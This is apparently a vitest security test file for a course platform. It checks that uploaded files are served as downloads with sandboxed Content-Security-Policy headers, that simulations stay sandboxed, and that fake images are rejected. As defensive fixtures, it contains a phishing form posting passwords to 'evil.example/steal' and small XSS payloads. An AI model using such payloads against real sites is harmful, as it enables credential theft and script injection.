import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { loadConfig } from '../../server/config.js'
import { readFolderUrl } from '../../server/storage/index.js'
import { courseApp, courseCast, startCourse, V2, type Caller, type CourseApi, type CourseCast } from '../helpers/courses.js'
import { sampleFile } from '../helpers/media.js'
import { multipart } from './storage-contract.js'

/** Uploaded files are never content of the app's origin: not a page, not a script, not a lie about their type. */

const COURSE = '22222222-2222-4222-8222-222222222222'
const key = (kind: string, name: string) => `courses/${COURSE}/${kind}/0123456789abcdef-${name}`

/** The directives of a Content-Security-Policy header (either separator). */
function directives(header: unknown): Record<string, string[]> {
  return Object.fromEntries(
    String(header)
      .split(';')
      .map((d) => d.trim().split(/\s+/))
      .filter((d) => d[0])
      .map(([name, ...values]) => [name!, values]),
  )
}

/** Asks for upload parameters, POSTs the bytes as a browser does; returns the issued path. */
async function upload(api: CourseApi, as: Caller, uuid: string, media: string, file: { bytes: Buffer; type: string; name: string }) {
  const par = await api.call(as, 'POST', `${V2}/builder/${media}-par`, { uuid, size: file.bytes.length, contentType: file.type, fileName: file.name })
  expect(par.statusCode, par.body).toBe(200)
  const { url, fields, path } = par.json() as { url: string; fields: Record<string, string>; path: string }
  const { body, contentType } = await multipart(fields, file)
  const posted = await api.app.inject({ method: 'POST', url, payload: body, headers: { 'content-type': contentType } })
  expect(posted.statusCode, posted.body).toBeLessThan(300)
  return path
}

describe('on the single origin', () => {
  let api: CourseApi
  let cast: CourseCast
  beforeAll(async () => {
    api = await courseApp()
    cast = await courseCast(api)
  })
  afterAll(() => api.close())

  const serve = async (k: string, body: string, type: string) => {
    await api.app.storage.put(k, Buffer.from(body), type)
    return api.app.inject({ method: 'GET', url: await api.app.storage.readUrl(k) })
  }

  it('sends an HTML attachment as bytes to save: no fake sign-in page on our address', async () => {
    const res = await serve(key('block-attachment', 'login.html'), '<form action="https://evil.example/steal"><input name=password></form>', 'text/html')
    expect(res.statusCode).toBe(200)
    expect(res.headers['content-type']).toBe('application/octet-stream')
    expect(res.headers['content-disposition']).toBe('attachment; filename="login.html"')
    expect(res.headers['x-content-type-options']).toBe('nosniff')
    expect(res.headers['content-security-policy']).toBe("default-src 'none'; sandbox")
  })

  it.each([
    ['application/javascript', 'gadget.js'],
    ['text/javascript', 'gadget.mjs'],
    ['image/svg+xml', 'logo.svg'],
    ['application/xhtml+xml', 'page.xhtml'],
    ['text/xml', 'data.xml'],
    ['text/css', 'style.css'],
    ['application/wasm', 'code.wasm'],
  ])('never serves a %s attachment as what it is', async (type, name) => {
    const res = await serve(key('block-attachment', name), 'alert(document.domain)', type)
    expect(res.headers['content-type']).toBe('application/octet-stream')
    expect(res.headers['content-disposition']).toBe(`attachment; filename="${name}"`)
    expect(res.headers['x-content-type-options']).toBe('nosniff')
    expect(res.headers['content-security-policy']).toBe("default-src 'none'; sandbox")
  })

  it('refuses a page of our origin that loads a file as a script or a style sheet', async () => {
    const k = key('block-simulation', 'x.zip.d/app.js')
    await api.app.storage.put(k, Buffer.from('parent.x = 1'), 'text/javascript')
    const link = await readFolderUrl(api.app.storage, key('block-simulation', 'x.zip.d/'), 'app.js')
    const asScript = await api.app.inject({ method: 'GET', url: link, headers: { 'sec-fetch-site': 'same-origin', 'sec-fetch-dest': 'script' } })
    expect(asScript.statusCode).toBe(403)
    const style = await api.app.inject({ method: 'GET', url: link, headers: { 'sec-fetch-site': 'same-origin', 'sec-fetch-dest': 'style' } })
    expect(style.statusCode).toBe(403)
    // The simulation's own page (an opaque origin: cross-site) loads it.
    const fromPackage = await api.app.inject({ method: 'GET', url: link, headers: { 'sec-fetch-site': 'cross-site', 'sec-fetch-dest': 'script' } })
    expect(fromPackage.statusCode).toBe(200)
    expect(fromPackage.headers['content-type']).toBe('text/javascript; charset=utf-8')
  })

  it("runs a simulation's page sandboxed, loading only from its own package, sending no form", async () => {
    const folder = key('block-simulation', 'pendulum.zip.d/')
    await api.app.storage.put(`${folder}index.html`, Buffer.from('<script src="app.js"></script>'), 'text/html')
    const link = await readFolderUrl(api.app.storage, folder, 'index.html')
    const page = await api.app.inject({ method: 'GET', url: link })
    expect(page.statusCode).toBe(200)
    expect(page.headers['content-type']).toBe('text/html; charset=utf-8')
    const csp = directives(page.headers['content-security-policy'])
    expect(csp['default-src']).toEqual(["'none'"])
    expect(csp['form-action']).toEqual(["'none'"])
    expect(csp.sandbox).toEqual(['allow-scripts'])
    expect(csp['frame-ancestors']).toEqual(["'self'"])
    const own = `http://localhost:80${link.slice(0, link.lastIndexOf('/') + 1)}`
    expect(csp['script-src']).toContain(own)
    expect(csp['connect-src']).toEqual([own])
    expect(String(page.headers['content-security-policy'])).not.toContain('allow-same-origin')
    expect(page.headers['x-frame-options']).toBeUndefined()
  })

  it("takes the app pages' scripts only from /assets/, never from /api/files", async () => {
    for (const url of ['/', '/login', '/courses/x']) {
      const res = await api.app.inject({ method: 'GET', url, headers: { host: 'aula.example.org' } })
      const csp = directives(res.headers['content-security-policy'])
      expect(csp['script-src']).toEqual(['http://aula.example.org/assets/'])
      expect(csp['worker-src']).toEqual(['http://aula.example.org/assets/'])
      expect(String(res.headers['content-security-policy'])).not.toMatch(/script-src[^;]*'self'/)
    }
    const docs = await api.app.inject({ method: 'GET', url: '/api/docs/static/index.html', headers: { host: 'aula.example.org' } })
    const docScripts = directives(docs.headers['content-security-policy'])['script-src']!
    expect(docScripts[0]).toBe('http://aula.example.org/api/docs/static/')
    expect(docScripts).not.toContain("'self'")
    // A Host no browser sends allows no script at all.
    const odd = await api.app.inject({ method: 'GET', url: '/', headers: { host: 'a b;c' } })
    expect(directives(odd.headers['content-security-policy'])['script-src']).toEqual(["'none'"])
  })

  it('refuses a PNG that is really HTML (400, removed from storage) and takes a real PNG and MP4', async () => {
    const { uuid, revision } = await startCourse(api, cast.owner)
    const fake = await upload(api, cast.owner, uuid, 'cover', {
      bytes: Buffer.from('<!doctype html><script>alert(1)</script>'),
      type: 'image/png',
      name: 'cover.png',
    })
    const refused = await api.call(cast.owner, 'PUT', `${V2}/builder/cover`, { uuid, revision, cover: fake })
    expect(refused.statusCode).toBe(400)
    expect(refused.json()).toMatchObject({ code: 'TYPE_MISMATCH', errors: { cover: 'The file is not a PNG image as declared (image/png): upload it again' } })
    expect(await api.app.storage.head(fake)).toBeNull()
    const real = await upload(api, cast.owner, uuid, 'cover', { bytes: sampleFile('image/png'), type: 'image/png', name: 'cover.png' })
    const cover = await api.call(cast.owner, 'PUT', `${V2}/builder/cover`, { uuid, revision, cover: real })
    expect(cover.statusCode, cover.body).toBe(200)
    const fakeVideo = await upload(api, cast.owner, uuid, 'presentation', { bytes: sampleFile('image/png', 500), type: 'video/mp4', name: 'intro.mp4' })
    const wrong = await api.call(cast.owner, 'PUT', `${V2}/builder/presentation`, { uuid, revision: revision + 1, presentation: fakeVideo })
    expect(wrong.statusCode).toBe(400)
    expect(wrong.json().errors).toEqual({ presentation: 'The file is not an MP4 video as declared (video/mp4): upload it again' })
    const video = await upload(api, cast.owner, uuid, 'presentation', { bytes: sampleFile('video/mp4', 500), type: 'video/mp4', name: 'intro.mp4' })
    const ok = await api.call(cast.owner, 'PUT', `${V2}/builder/presentation`, { uuid, revision: revision + 1, presentation: video })
    expect(ok.statusCode, ok.body).toBe(200)
    const served = await api.app.inject({ method: 'GET', url: ok.json().url })
    expect(served.headers['content-type']).toBe('video/mp4')
    expect(served.headers['content-disposition']).toBeUndefined()
  })
})

describe('with FILES_ORIGIN', () => {
  let api: CourseApi
  beforeAll(async () => {
    api = await courseApp({ FILES_ORIGIN: 'http://files.aula.test/', PUBLIC_URL: 'http://aula.test' })
  })
  afterAll(() => api.close())

  it('needs PUBLIC_URL on another host, and an origin without a path', () => {
    expect(() => loadConfig({ FILES_ORIGIN: 'https://files.aula.test' })).toThrow(/PUBLIC_URL is required when FILES_ORIGIN is set/)
    expect(() => loadConfig({ FILES_ORIGIN: 'https://aula.test', PUBLIC_URL: 'https://aula.test' })).toThrow(/another host/)
    expect(() => loadConfig({ FILES_ORIGIN: 'https://files.aula.test/files', PUBLIC_URL: 'https://aula.test' })).toThrow(
      /FILES_ORIGIN must be an http:\/\/ or https:\/\/ origin/,
    )
  })

  it('hands out links on the files origin, which serves them; the app host redirects file reads there', async () => {
    const k = key('cover', 'a.png')
    await api.app.storage.put(k, sampleFile('image/png'), 'image/png')
    const link = await api.app.storage.readUrl(k)
    expect(link).toMatch(/^http:\/\/files\.aula\.test\/api\/files\/courses\//)
    const { pathname, search } = new URL(link)
    const file = await api.app.inject({ method: 'GET', url: pathname + search, headers: { host: 'files.aula.test' } })
    expect(file.statusCode).toBe(200)
    expect(file.headers['content-type']).toBe('image/png')
    expect(file.headers['cross-origin-resource-policy']).toBe('cross-origin')
    expect(file.headers['x-content-type-options']).toBe('nosniff')
    expect(file.headers['content-security-policy']).toBe("default-src 'none'; sandbox")
    const onApp = await api.app.inject({ method: 'GET', url: pathname + search, headers: { host: 'aula.test' } })
    expect(onApp.statusCode).toBe(308)
    expect(onApp.headers.location).toBe(link)
    const html = key('block-attachment', 'page.html')
    await api.app.storage.put(html, Buffer.from('<h1>x</h1>'), 'text/html')
    const page = new URL(await api.app.storage.readUrl(html))
    const download = await api.app.inject({ method: 'GET', url: page.pathname + page.search, headers: { host: 'files.aula.test' } })
    expect(download.headers['content-type']).toBe('application/octet-stream')
    expect(download.headers['content-disposition']).toBe('attachment; filename="page.html"')
  })

  it('answers nothing but file reads on the files host', async () => {
    for (const url of ['/', '/login', '/api/config', '/api/docs', '/identity/']) {
      const res = await api.app.inject({ method: 'GET', url, headers: { host: 'files.aula.test' } })
      expect(res.statusCode, url).toBe(404)
      expect(res.headers['content-type']).toMatch(/^application\/json/)
    }
    const uploadThere = await api.app.inject({ method: 'POST', url: '/api/files/upload', headers: { host: 'files.aula.test' } })
    expect(uploadThere.statusCode).toBe(404)
  })

  it("serves simulations from the files origin, framed by the app only; the app's pages may frame and show them", async () => {
    const folder = key('block-simulation', 'sim.zip.d/')
    await api.app.storage.put(`${folder}index.html`, Buffer.from('<p>sim</p>'), 'text/html')
    const link = await readFolderUrl(api.app.storage, folder, 'index.html')
    expect(link).toMatch(/^http:\/\/files\.aula\.test\/api\/files\/p\//)
    const page = await api.app.inject({ method: 'GET', url: new URL(link).pathname, headers: { host: 'files.aula.test' } })
    expect(page.statusCode).toBe(200)
    const csp = directives(page.headers['content-security-policy'])
    expect(csp['frame-ancestors']).toEqual(['http://aula.test'])
    expect(csp['script-src']).toContain(link.slice(0, link.lastIndexOf('/') + 1))
    const app = await api.app.inject({ method: 'GET', url: '/', headers: { host: 'aula.test' } })
    const appCsp = directives(app.headers['content-security-policy'])
    expect(appCsp['frame-src']).toContain('http://files.aula.test')
    expect(appCsp['img-src']).toContain('http://files.aula.test')
    expect(appCsp['script-src']).toEqual(['http://aula.test/assets/'])
  })
})
